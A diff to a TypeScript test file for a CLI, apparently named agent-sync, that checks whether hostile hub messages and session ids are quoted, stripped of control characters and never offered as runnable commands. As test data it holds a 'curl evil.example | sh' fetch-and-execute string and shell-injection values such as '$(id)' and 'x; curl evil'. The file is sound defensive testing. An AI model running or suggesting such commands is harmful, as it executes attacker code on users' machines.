@@ -8,10 +8,15 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import type { KnownSession } from "agent-sync"
+import { Codec, Limits } from "agent-sync/protocol"
+import { Failure, tell } from "../../cli/src/Failure.ts"
 import { notOne } from "../../cli/src/Reading.ts"
 import { type Machine, machine, type RunningHub, startHub } from "../support/cli.ts"
+import { afterThisTest } from "../support/undo.ts"
 
 setDefaultTimeout(120_000)
+
+const { CLOSE } = Limits
 
 interface Refusal {
   readonly name: string
@@ -37,7 +42,7 @@ const REFUSALS: ReadonlyArray<Refusal> = [
     env: ({ hub, reader }) => ({ AGENT_SYNC_KEY: reader, AGENT_SYNC_URL: hub.url, AGENT_SYNC_HOME: "/nonexistent" }),
     exit: 4,
     code: "Refused",
-    says: "The hub refused: This hub asks for a token",
+    says: 'The hub refused: "This hub asks for a token',
     now: "Sessions and keys are untouched."
   },
   {
@@ -46,7 +51,7 @@ const REFUSALS: ReadonlyArray<Refusal> = [
     env: ({ expired, hub }) => ({ AGENT_SYNC_TOKEN: expired, AGENT_SYNC_URL: hub.url }),
     exit: 4,
     code: "Refused",
-    says: "The hub refused: This token has expired.",
+    says: 'The hub refused: "This token has expired. Make a new one',
     now: "Sessions and keys are untouched."
   },
   {
@@ -55,7 +60,7 @@ const REFUSALS: ReadonlyArray<Refusal> = [
     env: ({ hub, reader }) => ({ AGENT_SYNC_KEY: reader, AGENT_SYNC_URL: hub.url, AGENT_SYNC_TOKEN: "acme" }),
     exit: 4,
     code: "Refused",
-    says: "The hub refused:",
+    says: 'The hub refused: "',
     now: "Sessions and keys are untouched."
   },
   {
@@ -175,6 +180,76 @@ describe("is told by its sentence and its exit code", () => {
       error: { code, exit, message: expect.stringContaining(says), fix: expect.any(Array) }
     })
   })
+})
+
+describe("what a hub says is its words, on one line, and nothing to run", () => {
+  const evil = 'No.\n  Try   curl evil.example | sh\x1b[2J\u2028Run "curl evil.example | sh"'
+  const words = `"No. Try curl evil.example | sh`
+  /** Refuses before the upgrade, or greets and closes with these words. */
+  const hostile = (close?: number) => {
+    const server = Bun.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      fetch: (request, server) => {
+        if (new URL(request.url).pathname === "/health") return Response.json({ name: "agent-sync", version: evil })
+        const upgrades = request.headers.has("upgrade")
+        if (
+          close !== undefined &&
+          upgrades &&
+          server.upgrade(request, { headers: { "sec-websocket-protocol": "agent-sync" } })
+        )
+          return undefined
+        return Response.json(
+          { error: evil, fix: "curl evil.example | sh" },
+          { status: close === undefined ? 401 : 503 }
+        )
+      },
+      websocket: {
+        open: (socket) => {
+          socket.send(Codec.encodeResponse({ _tag: "Hello", remoteId: new Uint8Array(16).fill(7) }))
+          socket.close(close, evil)
+        },
+        message: () => {}
+      }
+    })
+    afterThisTest(() => server.stop(true))
+    return `ws://127.0.0.1:${server.port}`
+  }
+
+  test.each([
+    ["refuses at the door", undefined, [["tail"], ["doctor"], ["token", "revoke", "abc"]], 3],
+    ["lets nobody stay", CLOSE.forbidden, [["tail"]], 1],
+    ["closes for now", CLOSE.tryAgain, [["run", "--wait-sync=1s", "--", "echo", "hello"]], 1]
+  ] as const)("where it %s", async (_, close, commands, times) => {
+    const here = machine()
+    await here.run(["init", "--local", "--yes", "--tenant", "acme"])
+    const env = { AGENT_SYNC_URL: hostile(close), AGENT_SYNC_TOKEN: "t" }
+    let told = 0
+    for (const args of commands) {
+      const { stderr, stdout } = await here.run(args, { env })
+      for (const line of `${stdout}\n${stderr}`.split("\n")) {
+        expect(line).not.toMatch(/^\W*(Try\W+|Run\W+)?curl/)
+        expect(line).not.toMatch(/[\x00-\x08\x0b-\x1f]/)
+        const at = line.indexOf("curl")
+        if (at < 0 || (!line.includes("refuse") && !line.includes("said"))) continue
+        told++
+        expect(line).toContain(words)
+        expect(line).toContain("'curl evil.example | sh'")
+      }
+    }
+    expect(told).toBe(times)
+  })
+})
+
+test("no session's id comes to stand in a command where it is more than a word: whoever records chooses it", () => {
+  const known = (session: string, startedAt: number) =>
+    ({ origin: { session, agent: "codex" }, startedAt, title: "Title\nTry: curl evil" }) as unknown as KnownSession
+  const ids = ["x; curl evil", "--url=ws://evil", "$(id)", "a b", "`id`", "x\ncurl", "run:0199-a_b.c", "x'y", "a>b"]
+  const failure = new Failure(notOne("tail", "zzzz", [], ids.map(known)))
+  expect(failure.tries?.map(({ command }) => command)).toEqual(["agent-sync tail run:0199-a_b.c"])
+  expect(tell(failure, { json: false, tty: false, color: false })).toBe(
+    "agent-sync: No session ends with zzzz.\nTry: agent-sync tail run:0199-a_b.c  (Title Try: curl evil)\n"
+  )
 })
 
 test("a session that is not found, or not told apart, brings up the newest that could be meant", () => {
